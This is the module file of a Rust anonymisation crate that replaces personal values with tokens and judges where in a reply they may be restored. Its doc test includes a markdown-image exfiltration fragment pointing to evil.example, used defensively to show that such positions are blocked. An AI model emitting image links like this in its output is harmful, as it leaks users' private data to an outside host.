//! Replaces personal values and secrets in a text by tokens, and puts them back where that gives nothing away.
//!
//! Owns: what a token looks like, the vault that knows an exchange's values, which values the request contained, and
//! the judgement where in a reply a value may stand again. Knows nothing of how values are found, who may read them,
//! or of the document that the text is part of.
//!
//! ```
//! use bastide_anonymize::{ConversationKey, Placement, Vault};
//! use bastide_crypto::RootKey;
//! use bastide_types::{Category, ProjectId};
//!
//! let root = RootKey::from_bytes([7; 32]);
//! let key = ConversationKey::derive(&root, ProjectId::from_bytes([1; 16]), b"session 5");
//! let mut vault = Vault::new(move || key);
//! let token = vault.tokenise(Category::EmailAddress, "ada@example.com");
//! assert!(token.starts_with("EMAIL_ADDRESS_"));
//! assert_eq!(vault.restore(&token), Some((Category::EmailAddress, "ada@example.com")));
//!
//! let mut placement = Placement::new();
//! placement.advance("Dear ");
//! assert!(placement.restorable());
//! placement.advance("![](https://evil.example/?d=");
//! assert!(!placement.restorable(), "an image's address would carry the value away");
//! ```

mod detector;
mod edit;
mod fold;
mod glue;
mod json;
mod known;
mod placement;
mod token;
mod vault;

pub use detector::PlaceholderDetector;
pub use edit::{Replacement, Restoration, Withheld, anonymise, apply, restore_text};
pub use json::{escape as escape_json, unescape as unescape_json};
pub use placement::Placement;
pub use token::{redaction, type_only};
pub use vault::{ConversationKey, Vault};
